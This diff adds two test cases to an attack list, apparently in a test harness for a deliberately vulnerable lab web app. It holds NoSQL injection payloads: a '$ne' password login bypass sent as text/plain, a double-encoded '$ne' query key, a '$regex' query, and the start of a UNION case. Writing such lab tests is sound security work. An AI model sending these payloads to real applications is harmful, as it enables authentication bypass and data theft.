@@ -213,6 +213,25 @@ ATTACKS = [
         effects=frozenset({"canary_leak"}),
     ),
     Case("L2 $regex", "GET", "/api/products?category[$regex]=^int", {}, effects=frozenset({"canary_leak"})),
+    Case(  # JSON under another content type: the lab parses whatever it is sent
+        "L1 $ne as text/plain",
+        "POST",
+        "/api/login",
+        {
+            "data": '{"username": "admin", "password": {"$ne": null}}',
+            "headers": {"Content-Type": "text/plain"},
+        },
+        contains=(lambda s: s.admin_profile,),
+        effects=frozenset({"auth_bypass", "canary_leak"}),
+    ),
+    Case(  # double-encoded bracket key: the lab unquotes once more
+        "L2 double-encoded $ne",
+        "GET",
+        "/api/products?category%255B%2524ne%255D=x",
+        {},
+        contains=(lambda s: s.internal_product,),
+        effects=frozenset({"canary_leak"}),
+    ),
     Case(
         "L3 UNION",
         "GET",
